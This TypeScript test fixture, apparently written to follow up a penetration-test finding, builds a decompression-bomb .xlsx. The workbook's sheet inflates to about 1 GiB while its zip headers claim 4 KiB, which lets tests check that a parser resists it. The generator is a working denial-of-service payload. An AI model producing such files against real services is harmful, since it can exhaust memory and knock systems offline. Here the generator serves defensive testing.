// A lying workbook, as the penetration test (issue #35, finding 2) built it: a valid small .xlsx
// whose sheet entry is replaced by a deflate stream that inflates to ~1 GiB of one repeated byte
// while the zip's headers (local and central) declare 4 KiB. Made in milliseconds: 8 MiB of the
// byte are deflated once with a full flush (byte-aligned, non-final blocks, no reference back
// past the flush), that block repeated, then an empty final block closes the stream.
import { constants, deflateRawSync } from 'node:zlib';

const LOCAL = 0x04034b50;
const CENTRAL = 0x02014b50;
const EOCD = 0x06054b50;

export interface ZipEntry {
  name: string;
  method: number;
  crc: number;
  data: Buffer;
  size: number;
}

/** Raw deflate inflating to `copies` × 8 MiB of `byte` (128 copies: 1 GiB from ~1 MB). */
export function deflateBomb(copies = 128, byte = 0x20): Buffer {
  const block = deflateRawSync(Buffer.alloc(8 << 20, byte), { finishFlush: constants.Z_FULL_FLUSH });
  // 0x03 0x00: a final block with fixed codes holding only the end-of-block code.
  return Buffer.concat([...Array.from({ length: copies }, () => block), Buffer.from([0x03, 0x00])]);
}

/** `xlsx` with `entry` (default the first sheet) replaced by `data`, declared as `declared` bytes inflated. */
export function lyingXlsx(
  xlsx: Buffer,
  data: Buffer = deflateBomb(),
  entry = 'xl/worksheets/sheet1.xml',
  declared = 4096,
): Buffer {
  return rewriteZip(xlsx, (entries) => {
    const target = entries.find((e) => e.name === entry);
    if (target === undefined) throw new Error(`no ${entry} in the workbook`);
    Object.assign(target, { method: 8, data, size: declared });
  });
}

/** The zip written again after `edit` changed its entries (added, removed, replaced). */
export function rewriteZip(zip: Buffer, edit: (entries: ZipEntry[]) => void): Buffer {
  const entries = readZip(zip);
  edit(entries);
  return writeZip(entries);
}

function readZip(zip: Buffer): ZipEntry[] {
  const eocd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = zip.readUInt16LE(eocd + 10);
  let at = zip.readUInt32LE(eocd + 16);
  const entries: ZipEntry[] = [];
  for (let i = 0; i < count; i++) {
    const nameLength = zip.readUInt16LE(at + 28);
    const header = zip.readUInt32LE(at + 42);
    const start = header + 30 + zip.readUInt16LE(header + 26) + zip.readUInt16LE(header + 28);
    entries.push({
      name: zip.toString('utf8', at + 46, at + 46 + nameLength),
      method: zip.readUInt16LE(at + 10),
      crc: zip.readUInt32LE(at + 16),
      data: zip.subarray(start, start + zip.readUInt32LE(at + 20)),
      size: zip.readUInt32LE(at + 24),
    });
    at += 46 + nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  return entries;
}

function writeZip(entries: ZipEntry[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(LOCAL, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt32LE(e.crc, 14);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.size, 22);
    local.writeUInt16LE(name.length, 26);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(CENTRAL, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(e.method, 10);
    dir.writeUInt32LE(e.crc, 16);
    dir.writeUInt32LE(e.data.length, 20);
    dir.writeUInt32LE(e.size, 24);
    dir.writeUInt16LE(name.length, 28);
    dir.writeUInt32LE(offset, 42);
    parts.push(local, name, e.data);
    central.push(dir, name);
    offset += local.length + name.length + e.data.length;
  }
  const dir = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(EOCD, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, dir, end]);
}
